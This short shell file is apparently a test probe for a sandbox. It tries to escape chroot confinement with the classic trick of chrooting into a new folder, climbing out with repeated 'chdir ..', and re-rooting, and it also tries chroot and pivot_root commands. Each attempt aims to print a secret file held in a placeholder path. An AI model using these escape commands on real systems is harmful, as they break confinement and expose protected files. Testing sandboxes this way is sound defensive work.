# chroot into a folder of its own, and out again by a working folder outside.
mkdir -p jail; chroot jail /bin/true; chroot / cat @SECRET_PATH@; pivot_root . jail
perl -e 'mkdir "c"; chroot "c"; chdir ".." for 1..50; chroot "."; open F, "@SECRET_PATH@" and print <F>'
echo ATTEMPTED
